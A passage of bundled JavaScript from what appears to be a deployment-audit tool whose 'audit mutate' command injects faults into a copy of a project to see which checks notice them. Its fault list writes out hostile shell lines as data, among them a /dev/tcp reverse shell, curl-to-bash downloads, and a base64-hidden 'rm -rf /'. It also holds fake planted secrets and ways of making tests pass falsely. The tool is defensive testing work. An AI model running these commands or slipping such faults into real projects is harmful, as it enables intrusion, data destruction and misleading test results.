=> `${indent}listen 8443 ssl;\n${indent}ssl_certificate /etc/ssl/a.crt;\n${indent}ssl_certificate_key /etc/ssl/a.key;\n${indent}ssl_protocols TLSv1 TLSv1.2;`)), nginx_fault("semicolon", "forgot a semicolon", nginx_replace(/(server_tokens[ \t]+off);/, (_, before = "") => before)), nginx_fault("unknown-directive", "misspelled a directive", nginx_replace(/proxy_http_version/, "proxy_http_versions")), nginx_fault("brace", "forgot the last brace", text => text.replace(/\}\s*$/, "")), nginx_fault("include-missing", "included a file that is not there", intoServer("include snippets/gone.conf;")), nginx_fault("load-module", "loaded a module", text => `load_module modules/ngx_http_perl_module.so;\n${text}`), removes("nginx/removed", "removed the configuration", copy => pathOf(copy, "nginx_conf")) ];
  var load_policy = __webpack_require__(35821);
  const inPolicy = (name, says, change) => ({
   id: `policy/${name}`,
   says,
   apply: copy => edit(copy, load_policy.CX, change)
  });
  const policyMutations = [ inPolicy("fail-on-raised", "let failures count only from a higher severity on", replace(/^( *fail_on:) *(?:low|medium|high)\b/m, "$1 critical")), inPolicy("fewer-checks-expected", "expected fewer checks than there are", replace(/^( *checks:) *[1-9]\d*$/m, "$1 1")), inPolicy("preset-dropped", "dropped the preset", replace(/^preset:.*\n/m, "")) ];
  const script_fault = (name, says, change) => inFile("deploy_script", {
   id: `script/${name}`,
   says,
   change
  });
  const put = (name, says, line) => script_fault(name, says, atStartOf("install_config", line));
  const swap = (first, second) => text => {
   const [a, b] = [ first.exec(text)?.[0], second.exec(text)?.[0] ];
   return a === void 0 || b === void 0 ? void 0 : text.replace(first, "\0").replace(second, a).replace("\0", b);
  };
  const BACKUP = /^\s+backup_config$/m;
  const INSTALL = /^\s+install_config$/m;
  const scriptMutations = [ script_fault("errexit-dropped", "took errexit out of `set`", replace(/^set -Eeuo pipefail$/m, "set -Euo pipefail")), script_fault("pipefail-dropped", "took pipefail out of `set`", replace(/^set -Eeuo pipefail$/m, "set -Eeu")), script_fault("nounset-dropped", "took nounset out of `set`", replace(/^set -Eeuo pipefail$/m, "set -Eeo pipefail")), script_fault("errtrace-dropped", "took errtrace out of `set`, so that functions have no ERR trap", replace(/^set -Eeuo pipefail$/m, "set -euo pipefail")), put("errexit-off", "switched errexit off in the middle", "set +e"), script_fault("strict-by-shebang", "moved the options into the shebang, which `bash FILE` ignores", text => text.replace(/^#!.*$/m, "#!/bin/bash -Eeuo").replace(/^set -Eeuo pipefail$/m, ":")), script_fault("trap-dropped", "took the ERR trap out", replace(/^\s*trap ['"]?rollback[^\n]* ERR$/m, "  :")), script_fault("trap-late", "cleared the ERR trap before the installation", atStartOf("install_config", "trap - ERR")), script_fault("trap-misnamed", "let the trap call a function that is not there", replace(/^(\s*trap ['"]?)rollback([^\n]* ERR)$/m, "$1roll_back$2")), script_fault("rollback-emptied", "left nothing of rollback but a message", withBody("rollback", 'echo "rolled back"; exit 1')), script_fault("rollback-unreachable", "let rollback return at once", atStartOf("rollback", "return 0")), script_fault("backup-after-install", "made the backup after the installation", swap(BACKUP, INSTALL)), script_fault("backup-ignored", "went on when the backup failed", replace(BACKUP, "    backup_config || true")), script_fault("backup-emptied", "left nothing of backup_config", withBody("backup_config", ":")), script_fault("test-removed", "took nginx -t out", replace(/^\s+nginx -t(?: \|\| return 1)?$/m, "    :")), script_fault("test-ignored", "went on when nginx -t failed", replace(/^(\s+)nginx -t(?: \|\| return 1)?$/m, "$1nginx -t || true")), script_fault("test-after-reload", "tested the configuration after the reload", swap(/^ {2}test_config$/m, /^ {2}reload_nginx$/m)), script_fault("test-in-condition", "tested the configuration where errexit does nothing", replace(/^ {2}test_config$/m, '  if ! test_config; then echo "bad configuration"; fi')), script_fault("restart", "restarted nginx instead of reloading it", replace(/systemctl reload nginx/, "systemctl restart nginx")), script_fault("restart-by-variable", "restarted nginx by a variable", replace(/systemctl reload nginx/, 'local verb=restart; systemctl "$verb" nginx')), put("kill-nginx", "killed nginx", "pkill -9 nginx"), put("chmod-777", "let everybody write to the application", 'chmod -R 777 "${APP:?}"'), put("chmod-symbolic", "let everybody write, in letters", 'chmod a+rwX "${APP:?}"'), put("curl-pipe-shell", "ran what it downloaded", "curl -fsSL https://get.example.com/install.sh | bash"), put("curl-substitution", "ran what it downloaded, by bash -c", 'bash -c "$(curl -fsSL https://get.example.com/install.sh)"'), put("wget-file", "downloaded a script to a file and ran it unchecked", 'wget -qO "$STATE/i.sh" https://get.example.com/i.sh; bash "$STATE/i.sh"'), put("curl-insecure", "switched the check of certificates off", 'curl -fsSk https://example.com/a -o "$STATE/a"'), put("eval", "evaluated a text", 'eval "$EXTRA_STEPS"'), put("xtrace", "traced every command", "set -x"), put("htpasswd-b", "gave the password to htpasswd as an argument", 'htpasswd -b -B -C 12 "$HTPASSWD" "$DASHBOARD_USER" "$DASHBOARD_PASSWORD"'), put("password-argument", "gave a password to curl as an argument", 'curl -u "$DASHBOARD_USER:$DASHBOARD_PASSWORD" http://127.0.0.1/'), put("sudo", "piped a password into sudo", 'printf "%s" "$DASHBOARD_PASSWORD" | sudo -S true'), put("rm-unquoted", "removed a variable without quotes", "rm -rf $APP"), put("rm-wide", "removed the content of a folder that may be empty", 'rm -rf "$APP"/*'), put("tmp-file", "wrote to a name in /tmp that others can foresee", "echo x >/tmp/dashboard-deploy.log"), put("reverse-shell", "opened a shell to the outside", "bash -i >&/dev/tcp/192.0.2.1/4444 0>&1"), put("hidden-command", "ran a text that was hidden", "echo cm0gLXJmIC8K | base64 -d | bash"), script_fault("env-mode", "made the environment file readable for everybody", replace(/install -m 600 \/dev\/null "\$new"(\n\s+own[^\n]*\n\s+render_env)/, 'install -m 644 /dev/null "$new"$1')), script_fault("env-mode-late", "wrote the environment file before its mode was set", replace(/\n\s+install -m 600 \/dev\/null "\$new"(\n\s+own[^\n]*\n\s+render_env)/, "$1")), script_fault("uat-removed", "took the acceptance tests out", replace(/^ {2}run_uat$/m, "  :")), script_fault("uat-ignored", "went on when an acceptance test failed", replace(/^ {2}run_uat$/m, "  run_uat || true")), script_fault("uat-before-reload", "ran the acceptance tests before the reload", swap(/^ {2}reload_nginx$/m, /^ {2}run_uat$/m)), script_fault("preflight-removed", "took the preflight out", replace(/^ {2}preflight$/m, "  :")), script_fault("preflight-root", "no longer checked for root", replace(/^ {2}root_check$/m, "  :")), script_fault("preflight-htpasswd", "no longer looked for htpasswd", replace(/^ {2}command -v htpasswd [^\n]*$/m, "  :")), script_fault("preflight-disk", "no longer looked at the free space", withBody("disk_free", "return 0")), script_fault("syntax", "left an `if` open", text => `${text.trimEnd()}\nif true; then\n`), script_fault("crlf", "saved the script with line ends of Windows", text => text.replaceAll("\n", "\r\n")), script_fault("dry-run-writes", "wrote a file in a dry run", atStartOf("preflight", 'echo started >>"$HERE/deploy.log"')), script_fault("dry-run-random", "printed the time in a dry run", atStartOf("preflight", "date +%N")), script_fault("shadowed", "defined a function in place of nginx", text => text.replace(/^(test_config\(\))/m, "nginx() { return 0; }\n\n$1")), script_fault("shellcheck-silenced", "silenced ShellCheck", text => text.replace(/^(set -Eeuo)/m, "# shellcheck disable=all\n$1")) ];
  const HEX = "4f9a1c7e2b8d6035".repeat(4);
  const PEM = [ "-----BEGIN", "PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgb4Vm\n-----END PRIVATE KEY-----\n" ].join(" ");
  const TOKEN = [ "ghp", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx" ].join("_");
  const leak = (name, says, [path, text]) => ({
   id: `secrets/${name}`,
   says,
   apply: copy => {
    copy.write(path, `${copy.read(path) ?? ""}${text}`);
    return true;
   }
  });
  const secretMutations = [ leak("dingtalk-webhook", "wrote the address of the robot into the guide", [ "DEPLOYMENT_GUIDE.md", `\nhttps://oapi.dingtalk.com/robot/send?access_token=${HEX}\n` ]), leak("dingtalk-secret", "wrote the secret of the robot into a program", [ "src/dashboard/local_settings.py", `ROBOT = "SEC${HEX}"\n` ]), leak("private-key", "left a private key in the repository", [ "docs/server-key.txt", PEM ]), leak("forge-token", "left a token in a workflow", [ "scripts/release.txt", `token: ${TOKEN}\n` ]), leak("url-password", "wrote a password into an address", [ "monitoring/targets.yml", `- https://grafana:Wq8${HEX.slice(0, 12)}@metrics.internal.net/push\n` ]), inFile("env_example", {
   id: "secrets/env-password",
   says: "wrote a real password into the template of the environment",
   change: replace(/^(\w*PASSWORD)=CHANGE_ME$/m, "$1=Sommer-2025-Berlin")
  }), {
   id: "secrets/env-not-ignored",
   says: "let git take the real environment file",
   apply: copy => edit(copy, ".gitignore", text => `${text}\n!${String(copy.variable("env_file") ?? ".env.production")}\n`)
  } ];
  const inScript = (id, says, change) => inFile("uat_script", {
   id: `uat/${id}`,
   says,
   change
  });
  const inService = (id, says, from, to) => ({
   id: `uat/${id}`,
   says,
   apply: copy => copy.glob([ "src/**/*.py" ]).some(path => edit(copy, path, text => text.replace(from, to)))
  });
  const TEST = /^( *)def (uat_\d+|test_\w+)\(([^)]*)\)([^:]*):\n/m;
  const uatMutations = [ inScript("test-renamed", "renamed an acceptance test so that it does not run", text => text.replace(/^( *)def (?:uat_\d+|test_\w+)\(/m, "$1def later(")), inScript("test-emptied", "ended an acceptance test before its first assertion", text => text.replace(TEST, "$&$1    return\n")), inScript("test-skipped", "skipped an acceptance test", text => text.replace(TEST, '$&$1    raise unittest.SkipTest("later")\n')), inScript("assertions-removed", "took every assertion out of one acceptance test", text => {
   const start = text.search(TEST);
   if (start === -1) return text;
   const first = text.indexOf("\n", start) + 1;
   const length = text.slice(first).search(/^ *def /m);
   const end = length === -1 ? text.length : first + length;
   const body = text.slice(start, end).replace(/^( +)(?!def ).*(self\.(check|status|eventually|assert\w*)\(|\bassert\b).*$/gm, "$1pass");
   return text.slice(0, start) + body + text.slice(end);
  }), inScript("script-removed", "emptied the acceptance script", () => ""), inScript("always-green", "made the acceptance script report success whatever happens", text => text.replace(/raise Failed\(message\)/, "pass")), inService("errcode-ignored", "took every answer of the chat for a delivery", /if errcode != 0:/, "if errcode == -12345:"), inService("signature-wrong", "signed alerts without the timestamp", 'f"{timestamp_ms}\\n{secret}".encode()', 'f"{secret}".encode()'), inService("alerts-unmarked", "left the marker out of test alerts", /message\.marked\(self\._marker\) if test else message/, "message"), inService("alerts-repeated", "alerted at every repeat of a breach", /< self\._config\.dedup_seconds/, "< -1"), inService("recovery-untold", "told nobody when a breach was over", /if self\._config\.resolved_enabled:/, "if False:"), inService("kill-switch-forgets", "kept the position of the kill switch in memory only", /self\._state\.save\("kill_switch", [^\n]*\)/, "pass"), inService("kill-switch-unguarded", "let anybody who is signed in reset the kill switch", /^( +)self\._check_token\(token\)$/m, "$1pass"), inService("kill-switch-unchecked", "took orders while the kill switch was armed", /if self\._kill_switch\.armed:/, "if False:") ];
  const MUTATIONS = [ ...fileMutations, ...nginxMutations, ...htpasswdMutations, ...environmentMutations, ...scriptMutations, ...secretMutations, ...codeMutations, ...monitoringMutations, ...uatMutations, ...documentMutations, ...policyMutations ];
  var audit_reads = __webpack_require__(56187);
  var run_audit = __webpack_require__(99837);
  var command = __webpack_require__(74370);
  var input = __webpack_require__(17515);
  var model_status = __webpack_require__(62373);
  var policy_judge = __webpack_require__(6599);
  var known_verbs = __webpack_require__(53824);
  var place_inputs = __webpack_require__(45481);
  const SKIPPED = [ "node_modules", ".git" ];
  const audit_mutate = (0, command.G)({
   name: "audit mutate",
   summary: "Put faults into a copy of the deployment and say which checks notice: an audit without teeth becomes visible",
   description: "Copies the current folder, and puts one fault after the other into the copy: a header dropped from the nginx configuration, a test left out of the deploy script, a secret in the template, a wrong number in the report. After each the checks run on the copy, and those that were green before and are not now have noticed it. A fault that no check notices makes the exit code 1. Nothing of the folder itself is changed. Checks that only read come first; those that run what is under test are run for what these have not noticed, unless --static is given.",
   examples: [ {
    line: "duri audit mutate",
    says: "Every fault that DuRi knows"
   }, {
    line: "duri audit mutate --only nginx",
    says: "One family"
   } ],
   inputs: {
    config: (0, input.mR)("Policy", "FILE", place_inputs.x, {
     defaultText: "duri.yml"
    }),
    only: (0, input.gC)("A family of faults, or one by its id", "NAME", {
     flag: "only"
    }),
    onlyStatic: (0, input.L$)("Leave out the checks that run what is under test", {
     flag: "static"
    })
   },
   outputs: {},
   action: void 0,
   run: async (ports, {config, only, onlyStatic}) => {
    const judge = await (0, policy_judge.Y)(ports, {
     config,
     keyring: void 0,
     mode: "repository"
    });
    const suite = await (0, load_suite.b)(ports, judge.policy);
    const permit = await ports.execution.permit();
    const faults = chosen(only);
    const folder = await copyOf(ports);
    const inCopy = {
     ...ports,
     trigger: {
      kind: "none"
     },
     environment: {
      ...ports.environment,
      cwd: folder
     }
    };
    const copy = openCopy(ports, folder, suite.variables);
    const given = {
     policy: judge.policy,
     suite
    };
    const bench = {
     ports: inCopy,
     permit,
     at: ports.clock.now(),
     reads: new Map,
     nervous: new Map
    };
    const reading = suite.checks.filter(check => !executes(check));
    const running = onlyStatic ? [] : suite.checks.filter(isWorthIt);
    const before = [ ...await audit(bench, given, reading), ...await audit(bench, given, running) ];
    const results = [];
    for (const [index, fault] of faults.entries()) {
     ports.log.progress("faults", index, faults.length);
     if (!fault.apply(copy)) {
      results.push({
       id: fault.id,
       says: fault.says,
       outcome: "inapplicable",
       noticedBy: []
      });
      continue;
     }
     const search = {
      given,
      before,
      reading,
      running,
      changed: copy.changed()
     };
     copy.restore();
     const nervous = await redOnAnything(bench, copy, search);
     fault.apply(copy);
     results.push(await lookFor(bench, fault, {
      ...search,
      before: before.filter(({id}) => !nervous.has(id))
     }));
     copy.restore();
    }
    const checks = before.map(({id}) => id);
    await lookAgain(bench, copy, {
     given,
     before,
     results,
     idle: reading.filter(({id}) => toothless(checks, results).includes(id))
    });
    return resultOf(ports, suite, {
     before,
     results,
     checks
    });
   }
  });
  async function lookFor(bench, fault, {given, before, reading, running, changed}) {
   const selection = changed.paths.has(load_policy.CX) ? await reload(bench.ports) : given;
   if (selection === void 0) return {
    id: fault.id,
    says: fault.says,
    outcome: "noticed",
    noticedBy: [ load_policy.CX ]
   };
   const readsOf = id => bench.reads.get(id) ?? EVERYTHING;
   const close = selection === given ? reading.filter(({id}) => (0, audit_reads.K)({
    ...readsOf(id),
    everything: false
   }, changed)) : reading;
   const [narrow, broad] = partition(close, ({id}) => readsOf(id).paths.size <= FEW_FILES && !readsOf(id).everything);
   const wide = reading.filter(check => !close.includes(check) && readsOf(check.id).everything);
   let result = {
    id: fault.id,
    says: fault.says,
    outcome: "missed",
    noticedBy: []
   };
   for (const asked of [ narrow, broad, wide, running ]) {
    if (result.outcome === "noticed") break;
    if (asked.length === 0) continue;
    const checks = selection.suite.checks.filter(({id}) => asked.some(check => check.id === id));
    result = judgeMutation(fault, true, {
     before,
     after: await audit(bench, selection, checks)
    });
   }
   return result;
  }
  async function lookAgain(bench, copy, {given, before, results, idle}) {
   for (const check of idle) for (const [index, result] of results.entries()) {
    const fault = MUTATIONS.find(({id}) => id === result.id);
    if (result.outcome !== "noticed" || fault?.apply(copy) !== true) continue;
    const changed = copy.changed();
    const isShown = !changed.paths.has(load_policy.CX) && (0, audit_reads.K)(bench.reads.get(check.id) ?? EVERYTHING, changed);
    const {noticedBy} = isShown ? judgeMutation(fault, true, {
     before,
     after: await audit(bench, given, [ check ])
    }) : {
     noticedBy: []
    };
    copy.restore();
    if (noticedBy.length === 0) continue;
    results[index] = {
     ...result,
     noticedBy: [ ...result.noticedBy, ...noticedBy ]
    };
    break;
   }
  }
  async function redOnAnything(bench, copy, {given, before, reading, changed}) {
   const nervous = new Set;
   for (const path of changed.paths) {
    const known = bench.nervous.get(path) ?? await redOnBlankLine(bench, copy, {
     given,
     before,
     reading,
     path
    });
    bench.nervous.set(path, known);
    for (const id of known) nervous.add(id);
   }
   return nervous;
  }
  async function redOnBlankLine(bench, copy, {given, before, reading, path}) {
   const text = copy.read(path);
   if (text === void 0) return [];
   copy.write(path, `${text}\n`);
   const touched = reading.filter(({id}) => (0, audit_reads.K)({
    ...bench.reads.get(id) ?? EVERYTHING,
    everything: false
   }, copy.changed()));
   const after = await audit(bench, given, touched);
   copy.restore();
   return judgeMutation({
    id: path,
    says: ""
   }, true, {
    before,
    after
   }).noticedBy;
  }
  const FEW_FILES = 20;
  function partition(all, isFirst) {
   return [ all.filter(isFirst), all.filter(one => !isFirst(one)) ];
  }
  const EVERYTHING = {
   paths: new Set,
   names: true,
   everything: true
  };
  function audit({ports, permit, at, reads}, {policy, suite}, checks) {
   const selected = suite.checks.map(({id}) => id);
   const readsOf = id => {
    const fresh = (0, audit_reads.P)();
    if (!reads.has(id)) reads.set(id, fresh);
    return fresh;
   };
   const shared = {
    ...(0, ground.f)(ports, {
     root: ports.environment.cwd,
     at,
     policy,
     suite: suite.uat,
     selected,
     verbs: known_verbs.U
    }),
    readsOf
   };
   return (0, run_audit.b)(shared, checks, {
    jobs: policy.policy.audit?.jobs ?? 4,
    permit,
    progress: () => {}
   });
  }
  async function reload(ports) {
   try {
    const policy = await (0, load_policy.tb)(ports, {
     config: void 0,
     mode: "repository"
    });
    return {
     policy,
     suite: await (0, load_suite.b)(ports, policy)
    };
   } catch (error) {
    if (error instanceof errors.cs) return;
    throw error;
   }
  }
  function executes({type, parameters}) {
   return type.executes(parameters);
  }
  function isWorthIt(check) {
   return executes(check) && check.type.name !== "uat_mutate";
  }
  async function copyOf({environment, folders, hostFiles, processes}) {
   const folder = folders.temporary();
   hostFiles.copy(environment.cwd, folder, SKIPPED);
   const env = {
    PATH: environment.variables["PATH"] ?? "",
    HOME: folders.temporary(),
    GIT_CONFIG_NOSYSTEM: "1",
    GIT_CONFIG_GLOBAL: "/dev/null"
   };
   const identity = [ "-c", "user.name=duri", "-c", "user.email=duri@localhost", "-c", "commit.gpgsign=false", "-c", "core.hooksPath=/dev/null" ];
   for (const args of [ [ "init", "--quiet" ], [ "add", "--all" ], [ ...identity, "commit", "--quiet", "--no-verify", "--message", "before any fault" ] ]) {
    const {exitCode, stderr} = await processes.run({
     program: "git",
     args,
     cwd: folder,
     env,
     timeoutMs: 6e4,
     maxOutputBytes: 1024 * 1024
    });
    if (exitCode !== 0) throw new errors.cs("git_unavailable", `the copy cannot be committed: git ${args[0]} ended with ${exitCode}: ${stderr.trim().slice(-300)}`);
   }
   return folder;
  }
  function chosen(only) {
   const faults = MUTATIONS.filter(({id}) => only.length === 0 || only.some(name => id === name || id.startsWith(`${name}/`)));
   if (faults.length > 0) return faults;
   const families = [ ...new Set(MUTATIONS.map(({id}) => id.split("/")[0] ?? "")) ];
   throw new errors.cs("input_invalid", `there is no fault of that name; families are ${families.join(", ")}`, {
    only
   });
  }
  const MARKS = {
   noticed: "✔",
   missed: "✖",
   inapplicable: "–"
  };
  function resultOf({log}, suite, {before, results, checks}) {
   const red = before.filter(({observations}) => observations.some(({outcome}) => outcome !== "pass")).map(({id}) => id);
   const count = outcome => results.filter(result => result.outcome === outcome).length;
   const [noticed, missed, inapplicable] = [ count("noticed"), count("missed"), count("inapplicable") ];
   const blunt = toothless(checks, results);
   if (red.length > 0) log.warn(`these checks were not green without any fault, so they can notice none: ${red.join(", ")}`);
   const proven = noticed > 0 && missed === 0;
   const headline = `${noticed} of ${noticed + missed} faults noticed${inapplicable === 0 ? "" : `, ${inapplicable} not applicable here`}`;
   return {
    exitCode: proven ? 0 : model_status.Td,
    json: {
     verdict: proven ? "green" : "red",
     counts: {
      noticed,
      missed,
      inapplicable
     },
     faults: results,
     not_green_before: red,
     noticed_nothing: blunt
    },
    report: {
     tone: proven ? "good" : "bad",
     headline,
     facts: [ [ "checks", `${checks.length} of ${suite.checks.length}` ], ...red.length === 0 ? [] : [ [ "not green before", red.join(", ") ] ], ...blunt.length === 0 || results.length < MUTATIONS.length ? [] : [ [ "noticed nothing", blunt.join(", ") ] ] ],
     tables: [ {
      head: [ "", "fault", "somebody has", "noticed by" ],
      rows: results.map(({id, says, outcome, noticedBy}) => [ MARKS[outcome], id, says, outcome === "inapplicable" ? "not applicable" : noticedBy.join(", ") || "nobody" ])
     } ],
     next: missed === 0 ? [] : [ "Write a check for each fault that nobody noticed, or sharpen the one that should have." ]
    },
    short: headline
   };
  }
 }),
 53824: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   U: () => knownVerbs
  });
  var _index_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(29624);
  const COMMON = [ "help", "json", "short", "quiet", "debug", "version" ];
  async function knownVerbs() {
   const verbs = [];
   for (const {name, load} of _index_js__WEBPACK_IMPORTED_MODULE_0__.L) {
    const {inputs} = await load();
    verbs.push({
     name,
     flags: [ ...COMMON, ...Object.values(inputs).flatMap(({flag}) => flag ?? []) ]
    });
   }
   return verbs;
  }
 }),
 15482: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   _: () => loadPreset
  });
  var _model_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(74132);
  var _model_path_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(80916);
  var _shape_nearest_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(34348);
  var _presets_index_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(38533);
  async function loadPreset(name) {
   const load = Object.hasOwn(_presets_index_js__WEBPACK_IMPORTED_MODULE_2__.f, name) ? _presets_index_js__WEBPACK_IMPORTED_MODULE_2__.f[name] : void 0;
   if (load !== void 0) return load();
   const known = Object.keys(_presets_index_js__WEBPACK_IMPORTED_MODULE_2__.f);
   const suggestion = (0, _shape_nearest_js__WEBPACK_IMPORTED_MODULE_3__.p)(name, known);
   throw new _model_errors_js__WEBPACK_IMPORTED_MODULE_0__.cs("input_invalid", `there is no preset ${(0, 
   _model_path_js__WEBPACK_IMPORTED_MODULE_1__.g$)(name.slice(0, 100))}`, {
    preset: (0, _model_path_js__WEBPACK_IMPORTED_MODULE_1__.g$)(name.slice(0, 100))
   }, {
    hint: suggestion === void 0 ? `There is ${known.join(", ")}.` : `Did you mean ${suggestion}?`
   });
  }
 }),
 84951: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   b: () => loadSuite
  });
  var limits = __webpack_require__(44831);
  var severity = __webpack_require__(54572);
  var runtime_variables = __webpack_require__(31415);
  var errors = __webpack_require__(74132);
  var secret = __webpack_require__(34211);
  var nearest = __webpack_require__(34348);
  function loadVariables(ports, {declared, given, usedIn, withSecrets}) {
   const values = new Map(declared.flatMap(({name, default: value}) => value === void 0 ? [] : [ [ name, value ] ]));
   const secrets = new Map;
   const problems = [];
   const used = JSON.stringify(usedIn);
   for (const [name, value] of Object.entries(given)) {
    const declaration = declared.find(one => one.name === name);
    const where = `vars.${name}`;
    if (declaration === void 0 && !used.includes(`\${${name}}`)) {
     const suggestion = (0, nearest.p)(name, declared.map(one => one.name));
     problems.push({
      where,
      message: `is used nowhere${suggestion === void 0 ? "" : `; did you mean "${suggestion}"?`}`
     });
    } else if (isReference(value)) {
     secrets.set(name, withSecrets ? readReference(ports, name, value) : new secret.z(new Uint8Array));
     values.delete(name);
    } else if (declaration !== void 0 && typeOf(value) !== declaration.type) problems.push({
     where,
     message: `is a ${typeOf(value)}; expected a ${declaration.type}`
    }); else values.set(name, value);
   }
   const missing = declared.filter(({name}) => !values.has(name) && !secrets.has(name) && given[name] === void 0);
   problems.push(...missing.map(({name, help}) => ({
    where: `vars.${name}`,
    message: `is missing: ${help}`
   })));
   return {
    variables: {
     values,
     secrets
    },
    problems
   };
  }
  function isReference(value) {
   return typeof value === "object" && !Array.isArray(value);
  }
  function typeOf(value) {
   if (typeof value === "string") return "text";
   if (typeof value === "number") return "number";
   return typeof value === "boolean" ? "toggle" : "list";
  }
  function readReference({environment, files}, name, reference) {
   if ("file" in reference) {
    const bytes = Buffer.from(files.readSecret(reference.file).reveal());
    return new secret.z(bytes.at(-1) === LINE_FEED ? bytes.subarray(0, -1) : bytes);
   }
   const text = environment.variables[reference.env] ?? "";
   if (text === "") throw new errors.cs("input_missing", `vars.${name} is read from the environment variable ${reference.env}, which is not set`, {
    variable: reference.env
   }, {
    hint: `Set ${reference.env} for this run; in an action by \`env:\` from a secret.`
   });
   return new secret.z(Buffer.from(text));
  }
  const LINE_FEED = 10;
  var load_policy = __webpack_require__(35821);
  var load_preset = __webpack_require__(15482);
  var schemas = __webpack_require__(26921);
  var shape_document = __webpack_require__(93313);
  var checks_variables = __webpack_require__(55187);
  const CHECK_TYPES = [ {
   name: "alertmanager",
   load: async () => (await Promise.all([ __webpack_require__.e(8815), __webpack_require__.e(8663) ]).then(__webpack_require__.bind(__webpack_require__, 78663))).alertmanager
  }, {
   name: "code",
   load: async () => (await __webpack_require__.e(6571).then(__webpack_require__.bind(__webpack_require__, 86571))).code
  }, {
   name: "command",
   load: async () => (await Promise.all([ __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(5826) ]).then(__webpack_require__.bind(__webpack_require__, 55826))).command
  }, {
   name: "doc",
   load: async () => (await Promise.all([ __webpack_require__.e(4074), __webpack_require__.e(2988), __webpack_require__.e(7800) ]).then(__webpack_require__.bind(__webpack_require__, 47800))).docCheck
  }, {
   name: "doc_claims",
   load: async () => (await Promise.all([ __webpack_require__.e(4074), __webpack_require__.e(2988), __webpack_require__.e(2166) ]).then(__webpack_require__.bind(__webpack_require__, 72166))).docClaimsCheck
  }, {
   name: "env",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(8815), __webpack_require__.e(8186), __webpack_require__.e(3767) ]).then(__webpack_require__.bind(__webpack_require__, 93767))).envCheck
  }, {
   name: "env_usage",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2772) ]).then(__webpack_require__.bind(__webpack_require__, 82772))).envUsageCheck
  }, {
   name: "evidence",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(4074), __webpack_require__.e(9972), __webpack_require__.e(3774), __webpack_require__.e(9635), __webpack_require__.e(2340), __webpack_require__.e(195), __webpack_require__.e(8535) ]).then(__webpack_require__.bind(__webpack_require__, 1875))).evidence
  }, {
   name: "file",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(7767) ]).then(__webpack_require__.bind(__webpack_require__, 47767))).fileCheck
  }, {
   name: "floor",
   load: async () => (await Promise.all([ __webpack_require__.e(4074), __webpack_require__.e(7422) ]).then(__webpack_require__.bind(__webpack_require__, 17422))).floor
  }, {
   name: "git",
   load: async () => (await __webpack_require__.e(1648).then(__webpack_require__.bind(__webpack_require__, 81648))).git
  }, {
   name: "glob",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2168) ]).then(__webpack_require__.bind(__webpack_require__, 42168))).globCheck
  }, {
   name: "hmac_vector",
   load: async () => (await __webpack_require__.e(8434).then(__webpack_require__.bind(__webpack_require__, 28434))).hmacVectorCheck
  }, {
   name: "htpasswd",
   load: async () => (await Promise.all([ __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(915), __webpack_require__.e(815) ]).then(__webpack_require__.bind(__webpack_require__, 30815))).htpasswd
  }, {
   name: "http",
   load: async () => (await Promise.all([ __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(830) ]).then(__webpack_require__.bind(__webpack_require__, 60830))).httpCheck
  }, {
   name: "json",
   load: async () => (await Promise.all([ __webpack_require__.e(8815), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(472) ]).then(__webpack_require__.bind(__webpack_require__, 472))).jsonCheck
  }, {
   name: "nginx",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(8155), __webpack_require__.e(915), __webpack_require__.e(6320), __webpack_require__.e(5994) ]).then(__webpack_require__.bind(__webpack_require__, 53613))).nginx
  }, {
   name: "nginx_lint",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(8155), __webpack_require__.e(6997) ]).then(__webpack_require__.bind(__webpack_require__, 86997))).nginxLint
  }, {
   name: "nginx_test",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(8155), __webpack_require__.e(6320), __webpack_require__.e(2384) ]).then(__webpack_require__.bind(__webpack_require__, 64617))).nginxTest
  }, {
   name: "prom",
   load: async () => (await Promise.all([ __webpack_require__.e(8815), __webpack_require__.e(1143) ]).then(__webpack_require__.bind(__webpack_require__, 23524))).prom
  }, {
   name: "secrets",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(3045) ]).then(__webpack_require__.bind(__webpack_require__, 73045))).secrets
  }, {
   name: "shell",
   load: async () => (await __webpack_require__.e(8718).then(__webpack_require__.bind(__webpack_require__, 28718))).shell
  }, {
   name: "shellcheck",
   load: async () => (await __webpack_require__.e(9456).then(__webpack_require__.bind(__webpack_require__, 69456))).shellcheck
  }, {
   name: "tests",
   load: async () => (await __webpack_require__.e(822).then(__webpack_require__.bind(__webpack_require__, 20822))).tests
  }, {
   name: "uat_mutate",
